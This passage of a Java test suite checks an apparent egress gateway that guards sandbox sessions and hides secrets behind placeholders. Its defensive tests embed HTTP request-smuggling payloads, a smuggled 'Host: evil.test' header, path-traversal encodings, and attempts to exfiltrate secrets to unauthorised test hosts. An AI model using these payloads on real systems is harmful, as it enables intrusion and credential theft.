                        "with a carriage return in a header",
                        smuggle("X-A: b\\rX-Injected: 1\\r\\nContent-Length: 0", ""),
                        refused),
                attack("with a NUL in a header", smuggle("X-A: b\\0c\\r\\nContent-Length: 0", ""), refused),
                attack(
                        "with a chunk of negative size",
                        smuggle("Transfer-Encoding: chunked", "-1\\r\\n" + hidden),
                        "(200, )?.*(refused|400|502|cut).*"),
                attack(
                        "with something behind a chunk's size",
                        smuggle("Transfer-Encoding: chunked", "1;a=\\\"\\r\\n\\\"\\r\\nx\\r\\n0\\r\\n\\r\\n" + hidden),
                        "(((200, )?(refused [a-z_]+|400)(, refused [a-z_]+|, 400)*|cut)\n?){2}"),
                attack(
                        "with headers behind the last chunk",
                        smuggle(
                                "Transfer-Encoding: chunked\\r\\nTrailer: Host",
                                "0\\r\\nHost: evil.test\\r\\nX-Injected: 1\\r\\nContent-Length: 60\\r\\n\\r\\n"
                                        + hidden),
                        "((200, )?(refused [a-z_]+|400)(, refused [a-z_]+|, 400)*\n?){2}"),
                attack(
                        "with a body on a request that wants a tunnel",
                        "raw('CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\nContent-Length: 5\\r\\n\\r\\nhello')",
                        "refused bad_request"),
                attack(
                        "with a head that never ends",
                        "raw('GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n' + 'X-A: ' + 'a' * 2000000 + '\\r\\n\\r\\n')",
                        "refused (too_large|bad_request)|431|400"),
                attack(
                        "with line ends in a path",
                        "raw('GET http://allowed.test/a%0d%0aX-Injected:%201 HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n'); raw('GET http://allowed.test/a\\rX-Injected: 1 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')",
                        "(200|refused [a-z_]+)\n(refused [a-z_]+|400)"),
                attack(
                        "with a placeholder and line ends",
                        "raw(('GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nX-A: ' + key() + '\\rX-Injected: 1\\r\\n\\r\\n')); opened('bound.test', 'GET / HTTP/1.1\\r\\nHost: bound.test\\r\\nAuthorization: Bearer ' + key() + '\\nX-Injected: 1\\r\\nConnection: close\\r\\n\\r\\n')",
                        "((refused [a-z_]+|400)\n?){2}"));
    }

    private static String asking(String method, String path) {
        return "opened('rules.test', '" + method + " " + path
                + " HTTP/1.1\\r\\nHost: rules.test\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n')";
    }

    @TestFactory
    Stream<DynamicTest> rulesOfPathsAndMethodsHold() {
        String no = "refused (not_allowed|bad_request)|400";
        return Stream.of(
                attack("the path that is allowed passes", asking("GET", "/public/a"), "200"),
                attack("another path is refused", asking("GET", "/forbidden"), "refused not_allowed"),
                attack("a path is not left by dots", asking("GET", "/public/../forbidden"), no),
                attack("nor by dots in disguise", asking("GET", "/public/%2e%2e/forbidden"), no),
                attack("nor by a slash in disguise", asking("GET", "/public/..%2fforbidden"), no),
                attack("nor by disguise twice over", asking("GET", "/public/%252e%252e/forbidden"), no),
                attack("nor by backslashes", asking("GET", "/public/..\\\\\\\\forbidden"), no),
                attack("nor by parameters", asking("GET", "/public/..;/forbidden"), no),
                attack("nor by an empty part", asking("GET", "//public/../forbidden"), no),
                attack("nor by an allowed path in the query", asking("GET", "/forbidden?/public/"), no),
                attack("nor by a fragment", asking("GET", "/forbidden#/public/"), no),
                attack("nor by letters of another case", asking("GET", "/PUBLIC/forbidden"), no),
                attack("nor by the whole address", asking("GET", "https://rules.test/public/../forbidden"), no),
                attack("another method is refused", asking("POST", "/public/forbidden"), "refused not_allowed"),
                attack("a method in small letters is another one", asking("get", "/public/forbidden"), no),
                attack("a method that nobody knows is another one", asking("GETX", "/public/forbidden"), no),
                attack(
                        "rules hold for plain requests too",
                        "raw('GET http://rules.test/forbidden HTTP/1.1\\r\\nHost: rules.test\\r\\n\\r\\n'); through('rules.test:80', b'DELETE /public/forbidden HTTP/1.1\\r\\nHost: rules.test\\r\\nConnection: close\\r\\n\\r\\n')",
                        "refused not_allowed\nrefused not_allowed"),
                attack(
                        "and for HTTP/2",
                        "h2('rules.test', [(':method', 'GET'), (':scheme', 'https'), (':authority', 'rules.test'), (':path', '/public/../forbidden')])",
                        "refused berth: .*|reset|goaway|answered 8c"));
    }

    // ---- secrets -------------------------------------------------------------------------------------------------

    @TestFactory
    Stream<DynamicTest> placeholdersStayAndValuesDoNotComeBack() {
        String stray = "refused placeholder";
        return Stream.of(
                attack(
                        "a placeholder in a header of another host is not sent",
                        "raw('GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nAuthorization: Bearer ' + key() + '\\r\\n\\r\\n')",
                        stray),
                attack(
                        "nor in its cookies",
                        "raw('GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nCookie: a=' + key() + '\\r\\n\\r\\n')",
                        stray),
                attack(
                        "nor in its path",
                        "raw('GET http://allowed.test/' + key() + ' HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')",
                        stray),
                attack(
                        "nor in its path in disguise",
                        "raw('GET http://allowed.test/%' + '%02x' % ord(key()[0]) + key()[1:] + ' HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')",
                        stray),
                attack(
                        "nor in its query",
                        "raw('GET http://allowed.test/?a=' + key() + ' HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')",
                        stray),
                attack(
                        "nor in its body",
                        "raw('POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: %d\\r\\n\\r\\n%s' % (len(key()), key()))",
                        stray),
                attack("nor in a body in pieces", """
                        chunks = ''.join('1\\r\\n%s\\r\\n' % c for c in key())
                        raw('POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n' + chunks + '0\\r\\n\\r\\n')""", stray),
                attack(
                        "nor behind a body",
                        "raw('POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: X-A\\r\\n\\r\\n0\\r\\nX-A: ' + key() + '\\r\\n\\r\\n')",
                        stray),
                attack(
                        "nor as a password",
                        "raw('GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nAuthorization: Basic ' + base64.b64encode(('u:' + key()).encode()).decode() + '\\r\\n\\r\\n')",
                        stray),
                attack(
                        "nor in the wrong place of its own host",
                        "opened('bound.test', 'GET /?a=' + key() + ' HTTP/1.1\\r\\nHost: bound.test\\r\\nConnection: close\\r\\n\\r\\n'); opened('bound.test', b'POST / HTTP/1.1\\r\\nHost: bound.test\\r\\nConnection: close\\r\\nX-A: ' + key().encode() + b'\\r\\nContent-Length: 0\\r\\n\\r\\n')",
                        stray + "\n" + stray),
                attack(
                        "nor in HTTP/2 to another host",
                        "h2('rules.test', [(':method', 'GET'), (':scheme', 'https'), (':authority', 'rules.test'), (':path', '/public/a'), ('x-a', key())])",
                        "refused berth: .* stands for the secret MODEL_KEY .*"),
                attack(
                        "one secret's placeholder is not good for another's host",
                        "opened('basic.test', 'GET / HTTP/1.1\\r\\nHost: basic.test\\r\\nAuthorization: Bearer ' + key() + '\\r\\nConnection: close\\r\\n\\r\\n')",
                        stray),
                attack(
                        "a value does not go out without TLS",
                        "raw('GET http://bound.test/ HTTP/1.1\\r\\nHost: bound.test\\r\\nAuthorization: Bearer ' + key() + '\\r\\n\\r\\n'); through('bound.test:80', b'GET / HTTP/1.1\\r\\nHost: bound.test\\r\\nAuthorization: Bearer ' + key().encode() + b'\\r\\nConnection: close\\r\\n\\r\\n')",
                        "(refused (not_encrypted|not_allowed|placeholder)\n?){2}"),
                attack(
                        "a value does not go to a server with a bad certificate",
                        "opened('expired.test', 'GET / HTTP/1.1\\r\\nHost: expired.test\\r\\nConnection: close\\r\\n\\r\\n')",
                        "refused certificate"),
                attack(
                        "a neighbour's placeholder is worth nothing here",
                        "opened('bound.test', 'GET /stranger HTTP/1.1\\r\\nHost: bound.test\\r\\nAuthorization: Bearer "
                                + "' + key()[:-32] + 'A' * 32 + '\\r\\nConnection: close\\r\\n\\r\\n')",
                        "200|refused placeholder"),
                dynamicTest("a value that its host repeats comes back as asterisks", () -> {
                    String output = python(SESSION, """
                            for host, query, name in (('bound.test', '/?a=1', 'MODEL_KEY'), ('basic.test', '/', 'BASIC_KEY'), ('query.test', '/echo?b=2', 'QUERY_KEY')):
                                answer = opened(host, 'GET %s HTTP/1.1\\r\\nHost: %s\\r\\nAccept-Encoding: gzip\\r\\nConnection: close\\r\\n\\r\\n' % (query, host))
                                print(answer.decode())
                            os.system('curl -sS --http2 -H "Authorization: Bearer $MODEL_KEY" https://bound.test/h2')""");
                    assertThat(output).contains("Bearer ****", "Basic ****", "key=****", "GET /h2");
                    values().forEach(value -> assertThat(output).doesNotContain(value));
                    // All of which had arrived where they belong.
                    String arrived = bound.seen().toString();
                    assertThat(arrived)
                            .contains(
                                    "Bearer " + VALUE,
                                    Base64.getEncoder()
                                            .encodeToString(("me:" + PASSWORD).getBytes(StandardCharsets.UTF_8)));
                }));
    }

    @Test
    void noRuleOpensTheServersOwnPort() throws IOException {
        online.session("ranged", "host", """
                {"mode": "restricted", "allow": [{"to": "127.0.0.0/8", "ports": [%1$d]}, {"to": "::1", "ports": [%1$d]},
                 {"to": "%2$s", "ports": [%1$d]}, {"to": "loopback.test", "ports": [%1$d]}]}""".formatted(api, text(internet.machine())));
        online.write("ranged", "attack.py", attacks());
        assertThat(python("ranged", """
                for a in ('127.0.0.1', '127.1.2.3', '[::1]', '[::ffff:127.0.0.1]', '%2$s', 'loopback.test'):
                    connect(a + ':%1$d')
                raw('GET http://127.0.0.1:%1$d/v1/tools HTTP/1.1\\r\\nHost: 127.0.0.1:%1$d\\r\\n\\r\\n')""".formatted(api, text(internet.machine()))))
                .matches("(refused loop\n?){7}");
    }

    @Test
    void capsHold() throws IOException {
        online.session("capped", "host", """
                {"mode": "restricted", "allow": [{"to": "allowed.test"}], "caps": {"connections": 3}}""");
        online.write("capped", "attack.py", attacks());
        assertThat(python("capped", """
                held = [connect('allowed.test:443')[0] for i in range(5)]""")).isEqualTo("200\n200\n200\nrefused cap_connections\nrefused cap_connections");
        // Another session: what was held is counted out in its own time.
        online.session("sparing", "host", """
                {"mode": "restricted", "allow": [{"to": "allowed.test"}], "caps": {"connections": 100, "bytes": 3000000}}""");
        online.write("sparing", "attack.py", attacks());
        String spent = python("sparing", """
                got = 0
                for i in range(5):
                    got += len(raw('GET http://allowed.test/bytes/1000000 HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n'))
                print(got < 3200000)""");
        assertThat(spent).startsWith("200\n").contains("refused cap_bytes").endsWith("True");
    }

    @Test
    void aChangeCutsWhatIsUnderWay() throws Exception {
        online.session("changing", "host", """
                {"mode": "restricted", "allow": [{"to": "allowed.test"}, {"to": "rules.test"}], "secrets": ["MODEL_KEY"]}""");
        online.write("changing", "attack.py", attacks());
        CountDownLatch finished = new CountDownLatch(1);
        List<String> output = new java.util.concurrent.CopyOnWriteArrayList<>();
        Thread holding = Thread.ofVirtual().start(() -> {
            output.add(python("changing", """
                    tunnel = secured('allowed.test', 'allowed.test')
                    open('held', 'w').close()
                    tunnel.settimeout(60)
                    try:
                        print('cut' if not tunnel.recv(1) else 'more')
                    except OSError as e:
                        print('cut' if not isinstance(e, TimeoutError) else 'open')"""));
            finished.countDown();
        });
        online.run("changing", "until [ -e held ]; do read -t 0.05 < <(:) || true; done");
        online.network("changing", """
                {"mode": "restricted", "allow": [{"to": "rules.test"}], "secrets": ["MODEL_KEY"]}""");
        assertThat(finished.await(60, TimeUnit.SECONDS)).isTrue();
        holding.join();
        assertThat(output).containsExactly("cut");
        assertThat(python("changing", "connect('allowed.test:443')")).isEqualTo("refused not_allowed");
        online.network("changing", "{\"mode\": \"none\"}");
        assertThat(python("changing", "tcp('127.0.0.1', 3128)")).isEqualTo("ECONNREFUSED");
    }

    @Test
    void aSecretThatIsRemovedIsGoneAtTheNextRequest() {
        String value = "sk-short-lived-" + UUID.randomUUID();
        online.secret(
                "BRIEF_KEY",
                value,
                "{\"hosts\": [\"bound.test\"], \"header\": {\"name\": \"X-Brief\", \"value\": \"{}\"}}");
        online.session("brief", "host", """
                {"mode": "restricted", "allow": [{"to": "bound.test"}], "secrets": ["BRIEF_KEY"]}""");
        String asking = "curl -sS -w '%{http_code}' -H \"X-Brief: $BRIEF_KEY\" https://bound.test/brief";
        assertThat(online.run("brief", asking)).contains("x-brief: ****").endsWith("200");
        assertThat(bound.seen())
                .anyMatch(request -> value.equals(request.headers().get("x-brief")));
        assertThat(online.berth().delete(online.key(), "/v1/secrets/BRIEF_KEY").status())
                .isLessThan(300);
        String after = online.run("brief", asking);
        assertThat(after).doesNotContain(value).doesNotContain("****");
        assertThat(bound.seen().stream().filter(request -> request.uri().equals("/brief")))
                .as("requests with the value")
                .filteredOn(request -> value.equals(request.headers().get("x-brief")))
                .hasSize(1);
    }

    @Test
    void theValueIsNowhereButWhereItBelongs() throws Exception {
        String own = "sk-searched-" + UUID.randomUUID().toString().replace("-", "");
        online.secret("SEARCHED_KEY", own, "{\"hosts\": [\"bound.test\"]}");
        online.session("searched", "host", "{\"mode\": \"restricted\", \"secrets\": [\"SEARCHED_KEY\"]}");
        online.write("searched", "attack.py", attacks());
        online.run("searched", "setsid sleep 300 >/dev/null 2>&1 < /dev/null &");
        assertThat(
                        online.run(
                                "searched",
                                "curl -sSi -o kept https://bound.test/searched; curl -sSi -H \"X: $SEARCHED_KEY\" https://bound.test/"))
                .contains("berth: ");
        assertThat(bound.seen()).anyMatch(request -> request.toString().contains(own));
        String reversed = new StringBuilder(own).reverse().toString();
        String found = python("searched", "search('" + reversed + "')");
        assertThat(found).matches("looked at [1-9][0-9]* files and [1-9][0-9]* processes, found in \\[\\]");
        // The search finds what is there: the placeholder is in the environment of what sleeps.
        String there = online.run("searched", "printenv SEARCHED_KEY").strip();
        assertThat(python("searched", "search('" + new StringBuilder(there).reverse() + "')"))
                .contains("environ");
        List<LoggedEvent> events = online.berth().sessions().events().read(SessionKey.of("acme", "searched"), 0, 1000);
        assertThat(events)
                .isNotEmpty()
                .noneMatch(event -> event.data().toString().contains(own));
        assertThat(rowsWith(own)).isEmpty();
        assertThat(rowsWith("searched")).as("the search itself").isNotEmpty();
        assertThat(processesWith(own)).isEmpty();
        assertThat(logged()).isNotEmpty().noneMatch(line -> line.contains(own));
        assertThat(online.berth().get(online.key(), "/v1/secrets").body())
                .contains("SEARCHED_KEY")
                .doesNotContain(own);
        assertThat(online.berth()
                        .get(dev.berth.gateway.TestingBerth.ADMIN, "/metrics")
                        .body())
                .doesNotContain(own);
        values().forEach(value -> {
            assertThat(logged()).noneMatch(line -> line.contains(value));
            assertThat(rowsWith(value)).isEmpty();
        });
    }

    /** What was logged so far, with causes. */
    private static List<String> logged() {
        return List.copyOf(log.list).stream()
                .map(event -> event.getFormattedMessage()
                        + event.getKeyValuePairs()
                        + (event.getThrowableProxy() == null
                                ? ""
                                : ch.qos.logback.classic.spi.ThrowableProxyUtil.asString(event.getThrowableProxy())))
                .toList();
    }

    /** The tables with a text in any column; what is binary is shown in hexadecimal. */
    private static List<String> rowsWith(String text) {
        String hex = HexFormat.of().formatHex(text.getBytes(StandardCharsets.UTF_8));
        return online.berth().database().query(handle -> {
            List<String> tables = handle.createQuery(
                            "SELECT quote_ident(table_schema) || '.' || quote_ident(table_name) FROM information_schema.tables"
                                    + " WHERE table_type = 'BASE TABLE' AND table_schema NOT IN ('pg_catalog', 'information_schema')")
                    .mapTo(String.class)
                    .list();
            return tables.stream()
                    .filter(table -> handle.createQuery(
                                            "SELECT count(*) FROM " + table
                                                    + " t WHERE position(:text IN t::text) > 0 OR position(:hex IN t::text) > 0")
                                    .bind("text", text)
                                    .bind("hex", hex)
                                    .mapTo(Integer.class)
                                    .one()
                            > 0)
                    .toList();
        });
    }

    /** Processes of the whole machine that were given a text. */
    private static List<String> processesWith(String text) throws IOException {
        try (Stream<Path> all = Files.list(Path.of("/proc"))) {
            return all.filter(path -> path.getFileName().toString().matches("[0-9]+"))
                    .filter(path -> Stream.of("cmdline", "environ").anyMatch(file -> holds(path.resolve(file), text)))
                    .map(Path::toString)
                    .toList();
        }
    }

    private static boolean holds(Path file, String text) {
        try {
            return new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1).contains(text);
        } catch (IOException e) {
            return false; // the process has ended
        }
    }

    /** As they would be written by whoever has them. */
    private static List<String> values() {
        String basic = Base64.getEncoder().encodeToString(("me:" + PASSWORD).getBytes(StandardCharsets.UTF_8));
        return Stream.of(VALUE, PASSWORD, QUERY, basic)
                .flatMap(value -> Stream.of(value, java.net.URLEncoder.encode(value, StandardCharsets.UTF_8)))
                .distinct()
                .toList();
    }
}
